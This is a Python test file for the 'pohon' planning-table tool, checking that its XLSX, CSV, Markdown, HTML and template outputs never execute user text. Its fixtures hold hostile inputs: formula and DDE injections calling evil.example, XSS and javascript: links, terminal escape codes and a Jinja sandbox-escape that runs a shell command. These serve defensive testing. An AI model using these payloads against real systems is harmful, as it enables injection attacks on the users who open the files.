"""Issue 8, the tables' part: whatever a tree file holds, no table runs anything (no formula or
link in XLSX/CSV, no HTML or link from the tree in Markdown/HTML, no Python from a template),
numbers keep their sign and size, and writing never loses a file or prints a traceback."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import stat
import subprocess
import threading
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pohon import io as pohon_io
from pohon.app import check_text
from pohon.cli import main
from pohon.errors import PohonError
from pohon.render.tables import kinds as kinds_pkg
from pohon.render.tables.model import Cell, Section, TableDoc
from pohon.render.tables.service import MAX_TABLE_YEARS, make_table
from pohon.render.tables.terbilang import in_words_en, terbilang
from pohon.render.tables.writers import to_csv, to_html, to_markdown
from pohon.render.tables.xlsx import to_xlsx

openpyxl = pytest.importorskip("openpyxl")

JENIS = tuple(kinds_pkg.kinds())
FORMATS = ("xlsx", "csv", "md", "html")
KECIL = Path(__file__).parent / "fixtures" / "tables" / "kecil.yaml"


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def _yaml_char(ch: str) -> str:
    code = ord(ch)
    if ch in "\\\"":
        return "\\" + ch
    if code in (0x09, 0x85) or 0x20 <= code <= 0x7E or 0xA0 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD \
            or code >= 0x10000:
        return ch
    return f"\\u{code:04x}"


def q(text: str) -> str:
    """A YAML double-quoted scalar holding exactly ``text`` (what YAML cannot hold raw, escaped)."""
    return '"' + "".join(map(_yaml_char, text)) + '"'


def hostile_tree(texts: dict[str, str] | None = None, periode: str = "2024-2025", pagu: str = "109000000",
                 anggaran: str = "109000000", target: str = "70") -> str:
    """A small tree whose every user text (organisation, statements, indicators, units,
    positions, holders, actions, officer, component name) can be chosen."""
    t = {
        "org": '=HYPERLINK("http://evil.example/?"&A5,"Klik")', "kepala": "@SUM(1+1)*cmd|' /C calc'!A0",
        "o": '=WEBSERVICE("http://evil.example/"&A1)', "c": "http://evil.example/x",
        "p": "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) ![i](javascript:x)",
        "k": "\t=1+1 tab", "sk": "-2+3 <script>alert(1)</script>",
        "ind_o": "+1+1", "ind_c": r"external:\\host\share\x.exe", "ind_p": "＝1+1 full width",
        "ind_k": "\r=1+1 cr", "ind_sk": "@x", "satuan": "<b>%</b>",
        "jab_o": "'Kepala [Badan]: *?/\\'", "pemegang": "=1+1", "jab_p": "History", "jab_k": "history",
        "jab_sk": "mailto:a@b.c", "aksi": "=cmd|' /C calc'!A0", "pj": "-1+1", "nama_sk": "=1+2 nama",
    }
    t.update(texts or {})
    return f"""pohon: 1
organisasi: {{nama: {q(t['org'])}, kepala: {q(t['kepala'])}, urusan: "8.01"}}
periode: {periode}
kinerja:
  - id: O1
    peran: outcome
    uraian: {q(t['o'])}
    jabatan: {{nama: {q(t['jab_o'])}, tingkat: JPT, pemegang: {q(t['pemegang'])}}}
    indikator: [{{uraian: {q(t['ind_o'])}, satuan: "%", target: {{2024: {target}, 2025: 75}}}}]
    cabang:
      - id: C1
        uraian: {q(t['c'])}
        jabatan: {q(t['jab_o'])}
        indikator: [{{uraian: {q(t['ind_c'])}, satuan: {q(t['satuan'])}, target: {{2024: 70, 2025: 75}}}}]
        cabang:
          - id: P1
            uraian: {q(t['p'])}
            kode: "8.01.05"
            jabatan: {{nama: {q(t['jab_p'])}, tingkat: Administrator}}
            indikator: [{{uraian: {q(t['ind_p'])}, satuan: "%", target: {{2024: 70, 2025: 75}}}}]
            cabang:
              - id: K1
                uraian: {q(t['k'])}
                kode: "8.01.05.2.01"
                jabatan: {q(t['jab_k'])}
                indikator: [{{uraian: {q(t['ind_k'])}, satuan: dokumen, target: {{2024: 1, 2025: 1}}}}]
                cabang:
                  - id: SK1
                    uraian: {q(t['sk'])}
                    kode: "8.01.05.2.01.0004"
                    komponen: [{{jenis: sub_kegiatan, nama: {q(t['nama_sk'])}}}]
                    jabatan: {q(t['jab_sk'])}
                    pagu: {{2024: {pagu}, 2025: 110000000}}
                    indikator:
                      - uraian: {q(t['ind_sk'])}
                        satuan: "%"
                        target: {{2024: 70, 2025: 75}}
                        rencana_aksi:
                          2024:
                            tw: [15, 25, 15, 15]
                            aksi: [{q(t['aksi'])}, "-1", "+cmd", "@y"]
                            anggaran: {anggaran}
                            penanggung_jawab: {q(t['pj'])}
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile tree and every table of it, written by the command: {(jenis, fmt): path}."""
    folder = tmp_path_factory.mktemp("hostile")
    tree = folder / "hostile.yaml"
    tree.write_text(hostile_tree(), encoding="utf-8")
    out = {}
    for jenis in JENIS:
        for fmt in FORMATS:
            path = folder / f"{jenis}.{fmt}"
            res = run("tabel", tree, "--jenis", jenis, "-o", path)
            assert res.exit_code in (0, 1), (jenis, fmt, res.output)
            out[(jenis, fmt)] = path
    return tree, out


FORMULA_FIRST = "=+-@\t\r＝＋－＠"
NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)*\s?%?|-")


def evaluable(text: str) -> bool:
    """Independent of pohon's code: text a spreadsheet could read as a formula."""
    if not text or NUMBER.fullmatch(text.strip()):
        return False
    return text[0] in "\t\r" or text.lstrip(" \n\u3000\u00a0")[:1] in FORMULA_FIRST


def xlsx_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}


def assert_no_formula_or_link(data: bytes) -> None:
    """No formula element, no hyperlink, no external relationship anywhere in the workbook."""
    for name, xml in xlsx_xml(data).items():
        assert not re.search(r"<f[ >]", xml), name
        assert not re.search(r"<hyperlinks?[ >]", xml) and "relationships/hyperlink" not in xml, name
        assert 'TargetMode="External"' not in xml, name


# -- 1. formulas and links: XLSX ---------------------------------------------------------------

@pytest.mark.parametrize("jenis", JENIS)
def test_xlsx_holds_every_user_text_as_text(hostile, jenis):
    _, out = hostile
    path = out[(jenis, "xlsx")]
    assert_no_formula_or_link(path.read_bytes())
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb:
        assert not ws._hyperlinks
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f" and c.hyperlink is None, (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    if evaluable(c.value):  # edited, it stays text: Excel's quote prefix
                        assert c.quotePrefix, (ws.title, c.coordinate, c.value)
    # the payloads are there, as plain text, in the subtitle (a merged range) or the form's own
    # (upper-case) organisation line, and the cells
    assert any(v.upper().startswith('=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&A5,"KLIK")') for v in texts)
    if jenis in ("matriks", "renstra", "iku"):  # the outcome (the Tujuan) is no PK row
        assert '=WEBSERVICE("http://evil.example/"&A1)' in texts


def test_xlsx_sheet_names_are_made_valid(hostile):
    _, out = hostile
    names = openpyxl.load_workbook(out[("pk", "xlsx")]).sheetnames
    assert names[:3] == ["Kepala Badan", "History (2)", "history (3)"]
    for name in names:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\") and name[0] != "'" and name[-1] != "'"
    assert len({n.casefold() for n in names}) == len(names)


def test_libreoffice_evaluates_nothing(hostile, soffice, tmp_path):
    """LibreOffice opens every hostile XLSX and shows the formulas as the text they are."""
    _, out = hostile
    files = [str(out[(j, "xlsx")]) for j in JENIS]
    proc = subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
                           "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), *files],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    for j in JENIS:
        text = (tmp_path / f"{j}.csv").read_text(encoding="utf-8")
        assert '=HYPERLINK(""HTTP://EVIL.EXAMPLE/?""&A5,""KLIK"")' in text.upper(), j  # the text, not "Klik"
        assert "#NAME?" not in text and "Err:" not in text, j
    matriks = (tmp_path / "matriks.csv").read_text(encoding="utf-8")
    assert '=WEBSERVICE(""http://evil.example/""&A1)' in matriks and "-2+3" in matriks and "=1+1 tab" in matriks


# -- 1. formulas: CSV ------------------------------------------------------------------------------

@pytest.mark.parametrize("jenis", JENIS)
def test_csv_prefixes_text_a_spreadsheet_would_evaluate(hostile, jenis):
    _, out = hostile
    text = out[(jenis, "csv")].read_bytes().decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    bad = [f for f in fields if evaluable(f)]
    assert bad == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A5,\"Klik\") · Periode 2024-2025" in fields


def test_csv_numbers_are_data_and_keep_their_sign(tmp_path):
    tree = tmp_path / "neg.yaml"
    tree.write_text(hostile_tree(pagu="-0.50"), encoding="utf-8")
    res = run("tabel", tree, "--jenis", "renstra", "--format", "csv")
    rows = list(csv.reader(io.StringIO(res.output.lstrip("\ufeff"))))
    total = next(r for r in rows if r and r[0] == "JUMLAH")
    assert [total[7], total[9], total[11]] == ["-0.5", "110000000", "109999999.5"]  # numbers, not "'-0.5"
    sk = next(r for r in rows if len(r) > 2 and r[2] == "8.01.05.2.01.0004")
    assert sk[0] == "'=WEBSERVICE(\"http://evil.example/\"&A1)" and [sk[7], sk[9]] == ["-0.5", "110000000"]
    assert sk[3] == "'=1+2 nama"  # the component's name in its own cell, not evaluable


# -- 2. Markdown and HTML ----------------------------------------------------------------------------

ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "table", "thead", "tbody",
                "tr", "th", "td", "ul", "li", "strong"}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [(n, v) for n, v in attrs]


def assert_safe_html(html: str) -> None:
    p = Tags()
    p.feed(html)
    assert p.tags <= ALLOWED_TAGS, p.tags - ALLOWED_TAGS
    assert not [n for n, _ in p.attrs if n.startswith("on") or n in ("src", "href")]


def assert_safe_markdown(md: str) -> None:
    assert "<" not in md.replace("<br>", ""), md
    assert not re.search(r"(?<!\\)\]\s*[(\[:]", md), md  # no link, image or reference definition
    assert "\x1b" not in md and "\x07" not in md


@pytest.mark.parametrize("jenis", JENIS)
def test_markdown_and_html_carry_no_markup_from_the_tree(hostile, jenis):
    _, out = hostile
    md = out[(jenis, "md")].read_text(encoding="utf-8")
    assert_safe_markdown(md)
    html = out[(jenis, "html")].read_text(encoding="utf-8")
    assert_safe_html(html)
    if jenis == "matriks":
        assert "&lt;img src=x onerror=alert(1)&gt; [klik\\](javascript:alert(1)) ![i\\](javascript:x)" in md
        assert "&lt;img src=x onerror=alert(1)&gt; [klik](javascript:alert(1))" in html


def test_markdown_renders_as_text(hostile):
    """What a Markdown renderer makes of it: the statement as text, no image, no link."""
    from markdown_it import MarkdownIt

    _, out = hostile
    md = out[("matriks", "md")].read_text(encoding="utf-8")
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt; [klik](javascript:alert(1))" in html
    p = Tags()
    p.feed(html)
    assert p.tags <= {"h1", "h2", "p", "br", "strong", "em", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"}
    assert p.attrs == [] or {n for n, _ in p.attrs} <= {"style"}


def test_control_characters_are_shown_not_sent(tmp_path):
    text = "Meningkatnya \x1b[8mrahasia\x1b]0;judul\x07 aman\ufffe"
    # a tree file holding them is not loaded (F014, docs/format.md): no table is made of it
    tree = tmp_path / "esc.yaml"
    tree.write_text(hostile_tree({"o": text}), encoding="utf-8")
    res = run("tabel", tree, "--jenis", "matriks", "-o", tmp_path / "esc.xlsx")
    assert res.exit_code == 1 and " F014 " in res.output and not (tmp_path / "esc.xlsx").exists()
    assert "\x1b" not in res.output and "\x07" not in res.output and "\ufffe" not in res.output
    # text that reaches a writer another way is shown, never sent
    def doc():
        return TableDoc("x", "Judul", "Sub", [Section("S", [], [], ["a"], [30], [[Cell(text)]])])
    for out in (to_csv(doc()).decode("utf-8"), to_markdown(doc()), to_html(doc())):
        assert "\x1b" not in out and "\x07" not in out and "\ufffe" not in out
        assert "Meningkatnya ␛[8mrahasia␛]0;judul␇ aman�" in out
    cells = [c.value for ws in openpyxl.load_workbook(io.BytesIO(to_xlsx(doc()))) for r in ws.iter_rows() for c in r]
    assert "Meningkatnya ␛[8mrahasia␛]0;judul␇ aman�" in cells


# -- 3. templates run in the sandbox -------------------------------------------------------------------

def _template(tmp_path, text: str, name: str = "table.md.j2") -> Path:
    folder = tmp_path / "tpl"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_template_cannot_run_python(tmp_path):
    marker = tmp_path / "ran"
    folder = _template(tmp_path, "{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}" % marker)
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2 and not marker.exists()
    assert res.output.startswith(f"pohon: {folder}/table.md.j2:1: templat tidak dapat dipakai: access to attribute")
    assert "Traceback" not in res.output and len(res.output.strip().splitlines()) == 1
    folder = _template(tmp_path, "[{{ doc.__dict__ }}{{ t.__globals__ }}]")  # unsafe attributes are undefined
    assert run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder).output == "[]"
    for text in ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ doc.sections.append(1) }}",
                 "{{ 'x' * 100000000 }}", "{{ t.__globals__.os }}"):
        folder = _template(tmp_path, text)
        res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder, "--lang", "en")
        assert res.exit_code == 2 and "table.md.j2:1: the template cannot be used" in res.output, text


def test_template_errors_name_the_file_and_line(tmp_path):
    folder = _template(tmp_path, "ok\n{% for s in doc.sections %}\n{{ s.name }\n")
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2 and res.output == f"pohon: {folder}/table.md.j2:3: templat tidak dapat dipakai: unexpected '}}'\n"
    folder = _template(tmp_path, "ok\n\n{% include 'kepala.j2' %}\n")
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2
    assert res.output == (f"pohon: {folder}/table.md.j2:3: templat kepala.j2 tidak ada di --template-dir maupun "
                          "di templat bawaan\n")
    (folder / "bagian").write_text("x\ny\n{{ doc.sections.pop() }}\n", encoding="utf-8")
    _template(tmp_path, "a\n{% include 'bagian' %}\n")
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2 and res.output.startswith(f"pohon: {folder}/bagian:3: templat tidak dapat dipakai: ")
    (folder / "table.md.j2").unlink()
    (folder / "table.md.j2").mkdir()
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2 and "bukan berkas biasa" in res.output
    (folder / "table.md.j2").rmdir()
    (folder / "table.md.j2").write_bytes(b"\xff\xfe{{ x }}")
    res = run("tabel", KECIL, "--jenis", "iku", "--template-dir", folder)
    assert res.exit_code == 2 and "bukan teks UTF-8" in res.output


def test_user_templates_escape_the_tree(tmp_path):
    tree = tmp_path / "t.yaml"
    tree.write_text(hostile_tree(), encoding="utf-8")
    folder = _template(tmp_path, "<p>{{ doc.subtitle }}</p>{% include 'baris.html' %}", "table.html.j2")
    (folder / "baris.html").write_text("{% for s in doc.sections %}{% for r in s.rows %}{% for c in r %}"
                                       "{% if c %}<i>{{ c.text }}</i>{% endif %}{% endfor %}{% endfor %}{% endfor %}",
                                       encoding="utf-8")
    _template(tmp_path, "{{ doc.subtitle }}\n{% for s in sections %}{% for r in s.rows %}{{ r|join(' | ') }}\n"
                        "{% endfor %}{% endfor %}{% for s in doc.sections %}{% for r in s.rows %}"
                        "{% for c in r %}{% if c %}{{ c.text }};{% endif %}{% endfor %}{% endfor %}{% endfor %}")
    html = run("tabel", tree, "--jenis", "matriks", "--template-dir", folder, "--format", "html").output
    assert "&lt;img src=x" in html and "<img" not in html and "<script" not in html
    md = run("tabel", tree, "--jenis", "matriks", "--template-dir", folder).output
    assert "&lt;img src=x" in md and "<img" not in md and "<script" not in md
    assert "[klik\\](javascript" in md and "[klik](" not in md


# -- 4. writing files -----------------------------------------------------------------------------------

def test_force_never_replaces_a_special_file(tmp_path):
    res = run("tabel", KECIL, "--jenis", "iku", "--format", "md", "-o", "/dev/null", "--force")
    assert res.exit_code == 2 and res.output == ("pohon: /dev/null bukan berkas biasa (perangkat); pohon tidak menulis "
                                                 "ke sana, juga dengan --force\n")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    fifo = tmp_path / "pipa.md"
    os.mkfifo(fifo)
    res = run("tabel", KECIL, "--jenis", "iku", "-o", fifo, "--force", "--lang", "en")
    assert res.exit_code == 2 and res.output == f"pohon: {fifo} is not a regular file (a pipe (FIFO)); pohon does not write there, even with --force\n"
    folder = tmp_path / "d"
    folder.mkdir()
    res = run("init", folder, "--force")
    assert res.exit_code == 2 and res.output == f"pohon: {folder} bukan berkas biasa (folder); pohon tidak menulis ke sana, juga dengan --force\n"


def test_replacing_keeps_the_mode_and_a_link_is_replaced_not_followed(tmp_path):
    out = tmp_path / "rahasia.md"
    out.write_text("lama", encoding="utf-8")
    out.chmod(0o600)
    assert run("tabel", KECIL, "--jenis", "iku", "-o", out, "--force").exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_text(encoding="utf-8").startswith("# Indikator")
    other = tmp_path / "lain.md"
    other.write_text("jangan diubah", encoding="utf-8")
    link = tmp_path / "tautan.md"
    link.symlink_to(other)
    assert run("tabel", KECIL, "--jenis", "iku", "-o", link, "--force").exit_code == 0
    assert not link.is_symlink() and other.read_text(encoding="utf-8") == "jangan diubah"
    new = tmp_path / "baru.md"
    assert run("tabel", KECIL, "--jenis", "iku", "-o", new).exit_code == 0
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~mask
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left


def test_a_new_file_is_created_once_by_concurrent_runs(tmp_path):
    target = tmp_path / "sama.md"
    results = []

    def write(n):
        try:
            pohon_io.write_bytes(target, f"penulis {n}".encode(), force=False)
            results.append(n)
        except PohonError as e:
            assert e.key == "output_exists"

    threads = [threading.Thread(target=write, args=(n,)) for n in range(16)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert len(results) == 1 and target.read_text(encoding="utf-8") == f"penulis {results[0]}"
    assert [p.name for p in tmp_path.iterdir()] == ["sama.md"]


def test_the_gap_between_check_and_create_is_closed(tmp_path, monkeypatch):
    """Another run creates the file after pohon checked it: pohon refuses instead of replacing it."""
    target = tmp_path / "x.md"
    real = pohon_io._temp_file

    def racing(folder, name, data, mode):
        target.write_text("punya orang lain", encoding="utf-8")
        return real(folder, name, data, mode)

    monkeypatch.setattr(pohon_io, "_temp_file", racing)
    with pytest.raises(PohonError) as e:
        pohon_io.write_bytes(target, b"pohon")
    assert e.value.key == "output_exists" and target.read_text(encoding="utf-8") == "punya orang lain"
    # a file system without hard links: O_EXCL instead, as exclusive
    monkeypatch.setattr(pohon_io.os, "link", lambda a, b: (_ for _ in ()).throw(OSError(errno.EPERM, "no links")))
    with pytest.raises(PohonError):
        pohon_io.write_bytes(target, b"pohon")
    assert target.read_text(encoding="utf-8") == "punya orang lain"
    monkeypatch.setattr(pohon_io, "_temp_file", real)
    assert pohon_io.write_bytes(tmp_path / "y.md", b"pohon").read_bytes() == b"pohon"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.md", "y.md"]


def _mounted(folder: Path, options: str) -> bool:
    """A tmpfs at ``folder`` (root only), else False."""
    if os.geteuid() != 0:
        return False
    folder.mkdir(exist_ok=True)
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True)
    return proc.returncode == 0


def _unmount(folder: Path) -> None:
    subprocess.run(["umount", str(folder)], capture_output=True)


def test_full_disk_is_a_message_and_the_old_file_stays(tmp_path, monkeypatch):
    folder = tmp_path / "kecil"
    real = _mounted(folder, "size=16k")
    try:
        if not real:  # no tmpfs to fill: the system call fails as on a full disk
            folder.mkdir(exist_ok=True)

            def full(fd, data):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

            monkeypatch.setattr(pohon_io.os, "write", full)
        old = folder / "renstra.md"
        old.write_text("lama", encoding="utf-8") if real else old.write_bytes(b"lama")
        renja = Path(__file__).parent.parent / "trees" / "renja-kesbangpol-balangan-2022.yaml"
        for target, force in ((old, ["--force"]), (folder / "baru.md", [])):
            res = run("tabel", renja, "--jenis", "renstra", "-o", target, *force)
            assert res.exit_code == 2
            assert res.output == f"pohon: {target} tidak dapat ditulis: disk penuh (atau kuota habis); tidak ada berkas yang berubah\n"
        assert old.read_bytes() == b"lama" and sorted(p.name for p in folder.iterdir()) == ["renstra.md"]
    finally:
        monkeypatch.undo()
        if real:
            _unmount(folder)


def test_read_only_folder_and_a_path_through_a_file(tmp_path):
    folder = tmp_path / "ro"
    real = _mounted(folder, "ro,size=16k")
    try:
        if not real:
            folder.mkdir()
            folder.chmod(0o500)
        res = run("tabel", KECIL, "--jenis", "iku", "-o", folder / "x.md")
        assert res.exit_code == 2 and res.output.startswith(f"pohon: {folder / 'x.md'} tidak dapat ditulis: ")
        assert ("hanya-baca" if real else "tidak ada izin menulis") in res.output
    finally:
        if real:
            _unmount(folder)
        else:
            folder.chmod(0o700)
    plain = tmp_path / "berkas"
    plain.write_text("x", encoding="utf-8")
    res = run("tabel", KECIL, "--jenis", "iku", "-o", plain / "x.xlsx")
    assert res.exit_code == 2 and res.output == f"pohon: {plain / 'x.xlsx'} tidak dapat ditulis: {plain} bukan folder\n"
    res = run("schema", "-o", plain / "a" / "s.json", "--lang", "en")
    assert res.exit_code == 2 and res.output == f"pohon: {plain / 'a' / 's.json'} cannot be written: {plain} is not a folder\n"
    res = run("tabel", KECIL, "--jenis", "iku", "-o", tmp_path / ("x" * 300 + ".md"))
    assert res.exit_code == 2 and res.output.endswith("tidak dapat ditulis: nama berkas terlalu panjang\n")


# -- 5. bounded tables -------------------------------------------------------------------------------------

def test_period_longer_than_a_planning_period(tmp_path):
    for periode, code in (("2020-2030", "M014"), ("2000-2049", "M014"), ("0000-9999", "M015")):
        tree = tmp_path / f"p{code}.yaml"
        tree.write_text(hostile_tree(periode=periode), encoding="utf-8")
        res = run("check", tree, "--select", "M014,M015")
        assert res.output.startswith(f"{tree}:3:10: {code} "), res.output
    assert "M014 peringatan Periode 2000-2049 mencakup 50 tahun" in run("check", tmp_path / "pM014.yaml").output
    tree = tmp_path / "lima.yaml"
    tree.write_text(hostile_tree(periode="2021-2030"), encoding="utf-8")
    assert "M014" not in run("check", tree).output
    res = run("tabel", tmp_path / "pM015.yaml", "--jenis", "renstra", "-o", tmp_path / "r.xlsx")
    assert res.exit_code == 2 and not (tmp_path / "r.xlsx").exists()
    assert res.output == ("pohon: Periode 0000-9999 mencakup 10000 tahun, padahal tabel memuat paling banyak 50 tahun; "
                          "pilih satu tahun dengan --tahun atau perbaiki periode (aturan M015)\n")
    res = run("tabel", tmp_path / "pM015.yaml", "--jenis", "renstra", "-o", tmp_path / "r.xlsx", "--tahun", "2024")
    assert res.exit_code == 1 and (tmp_path / "r.xlsx").exists()
    from pohon.rules.method import MAX_PERIOD_YEARS

    assert MAX_TABLE_YEARS == MAX_PERIOD_YEARS


def test_a_table_larger_than_a_sheet_is_refused():
    cols = [f"k{i}" for i in range(16_385)]
    doc = TableDoc("x", "Judul", "Sub", [Section("Lebar", [], [], cols, [], [[Cell(1)] * len(cols)])])
    for write in (to_xlsx, to_csv):
        with pytest.raises(PohonError) as e:
            write(doc)
        assert e.value.key == "tabel_terlalu_besar"
        assert e.value.text("id").startswith("Tabel Lebar terlalu besar untuk lembar kerja: ")


def test_a_text_longer_than_a_cell_is_cut_visibly():
    long = "x" * 40_000
    doc = TableDoc("x", "Judul", "Sub", [Section("S", [], [], ["a"], [10], [[Cell(long)]])])
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(doc))).worksheets[0]
    cell = next(c for r in ws.iter_rows() for c in r if c.value and c.value.startswith("xxx"))
    value = cell.value
    assert ws.row_dimensions[cell.row].height <= 409  # the tallest row a spreadsheet has
    assert len(value) <= 32_767 and value.endswith(" [terpotong: teksnya 40000 karakter, satu sel memuat paling banyak 32.767]")


def test_deep_induk_chain_builds_every_table(tmp_path):
    """1,300 boxes in a flat `induk:` chain (beyond Python's recursion limit); statements that
    differ, so that the similarity rule has nothing to compare."""
    import hashlib

    def words(i: int) -> str:
        return hashlib.sha256(str(i).encode()).hexdigest()[:24]

    lines = ["pohon: 1", "organisasi: {nama: Dinas Uji}", "periode: 2024-2025", "kinerja:",
             f"  - {{id: N0, peran: outcome, uraian: {words(0)}, pagu: {{2024: 5}}}}"]
    lines += [f"  - {{id: N{i}, induk: N{i - 1}, uraian: {words(i)}, pagu: {{2024: 5}}}}" for i in range(1, 1300)]
    checked = check_text("\n".join(lines) + "\n", "dalam.yaml")
    assert checked.ok
    for jenis in JENIS:
        assert make_table(checked, jenis, "md")
    assert make_table(checked, "renstra", "xlsx")


# -- 6, 7. numbers: signs and sizes ----------------------------------------------------------------------

def test_negative_pagu_keeps_its_sign_and_is_reported(tmp_path):
    tree = tmp_path / "neg.yaml"
    tree.write_text(hostile_tree(pagu="-0.50", anggaran="-5"), encoding="utf-8")
    res = run("check", tree, "--select", "K016")
    line = next(i for i, l in enumerate(tree.read_text(encoding="utf-8").splitlines(), 1) if "pagu: {2024: -0.50" in l)
    col = tree.read_text(encoding="utf-8").splitlines()[line - 1].index("-0.50") + 1
    assert res.output.splitlines()[0] == f"{tree}:{line}:{col}: K016 peringatan [SK1] Pagu kotak SK1 tahun 2024 negatif: Rp -0,50"
    assert "Anggaran rencana aksi indikator \"@x\" kotak SK1 tahun 2024 negatif: Rp -5" in res.output
    md = run("tabel", tree, "--jenis", "renja", "--tahun", "2024").output
    assert "| **-0,50** |" in md and "Jumlah pagu indikatif tahun 2024: Rp -0,50 (minus nol rupiah lima puluh sen)." in md
    en = run("tabel", tree, "--jenis", "renja", "--tahun", "2024", "--lang", "en").output
    assert "Rp -0,50 (minus 0.50 rupiah)" in en
    assert terbilang(Decimal("-0.50")) == "minus nol rupiah lima puluh sen"
    assert terbilang(-1500) == "minus seribu lima ratus rupiah" and in_words_en(Decimal("-1234.5")) == "minus 1,234.50 rupiah"
    assert in_words_en(0) == "0 rupiah" and terbilang(Decimal("0.004")) == "nol rupiah"


def test_huge_numbers_are_written_as_their_text(tmp_path):
    big = "9" * 310
    tree = tmp_path / "besar.yaml"
    tree.write_text(hostile_tree(pagu=big, target=big, anggaran=big), encoding="utf-8")
    # a tree file with numbers beyond a budget or target is not loaded (F004, pohon.model.values)
    res = run("tabel", tree, "--jenis", "renstra", "-o", tmp_path / "renstra.xlsx", "--tahun", "2024")
    assert res.exit_code == 1 and not (tmp_path / "renstra.xlsx").exists()
    assert res.output.count(" F004 ") == 3 and "di luar batas angka" in res.output
    # numbers that reach a writer another way keep their size and sign, as text
    from pohon.render.tables.numbers import number_text, rupiah_text, spreadsheet_number

    assert number_text(10**5000).count(".") == 1666  # past Python's int-to-text limit
    assert rupiah_text(float("inf")) == "Rp ∞" and spreadsheet_number(float("nan")) is None
    assert spreadsheet_number(Decimal("1234567890123456")) is None and spreadsheet_number(0.1) == 0.1
    doc = TableDoc("x", "J", "S", [Section("S", [], [], ["a", "b"], [9, 9],
                                           [[Cell(Decimal("1E+400"), kind="rupiah"), Cell(float("-inf"), kind="number")]])])
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(doc)))
    row = [c.value for r in wb.worksheets[0].iter_rows() for c in r if c.value is not None][-2:]
    assert row[0].startswith("10.000.000") and row[1] == "-∞"
    assert b"-inf" not in to_csv(doc) and "-∞" in to_csv(doc).decode("utf-8")


# -- 8. generated hostile text through every kind and format ----------------------------------------------

HOSTILE_BITS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "＝", "﹦", "=1+1", "=HYPERLINK(\"http://x\")",
                                "http://x.y", "mailto:a@b", "\\\\h\\s\\x.exe", "<img src=x onerror=alert(1)>",
                                "<script>", "</td>", "&lt;", "&amp;", "[a](javascript:alert(1))", "![i](x)", "[r]: x",
                                "|", "\\", "*", "_", "`", "\x1b[8m", "\x07", "\x00", "\x7f", "\u202e", "\ufffe",
                                "\u2028", "'", '"', "'Kepala'", "History", "x" * 300, "é", "中文", "😀", "\n", "-5",
                                "1.000,5", "{{ 7*7 }}", "{% raw %}"])
HOSTILE_TEXT = st.lists(st.one_of(HOSTILE_BITS, st.text(max_size=8)), min_size=1, max_size=5).map("".join)
FIELDS = ("org", "kepala", "o", "c", "p", "k", "sk", "ind_o", "ind_c", "ind_p", "ind_k", "ind_sk", "satuan", "jab_o",
          "pemegang", "jab_p", "jab_k", "jab_sk", "aksi", "pj", "nama_sk")


def _assert_safe(fmt: str, data: bytes) -> None:
    if fmt == "xlsx":
        assert_no_formula_or_link(data)
    elif fmt == "csv":
        fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
        assert [f for f in fields if evaluable(f)] == []
    elif fmt == "md":
        assert_safe_markdown(data.decode("utf-8"))
    else:
        assert_safe_html(data.decode("utf-8"))


@settings(max_examples=int(os.environ.get("POHON_FUZZ", "12")), deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
